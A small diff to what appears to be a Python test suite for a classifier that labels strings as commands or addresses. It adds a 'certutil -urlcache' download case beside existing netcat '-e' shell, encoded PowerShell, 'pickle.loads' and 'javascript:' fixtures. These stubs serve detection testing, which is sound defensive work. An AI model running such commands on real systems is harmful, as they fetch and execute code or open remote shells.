@@ -64,6 +64,7 @@ def test_no_evidence(text: str) -> None:
         ("pickle.loads(x)", Sort.COMMAND),
         ("nc 1.2.3.4 5 -e /x", Sort.COMMAND),
         ("powershell -enc AAAA", Sort.COMMAND),
+        ("certutil -urlcache -f x", Sort.COMMAND),
         ("chmod +x a", Sort.COMMAND),
         ("file:///home", Sort.ADDRESS),
         ("javascript:alert(1)", Sort.ADDRESS),
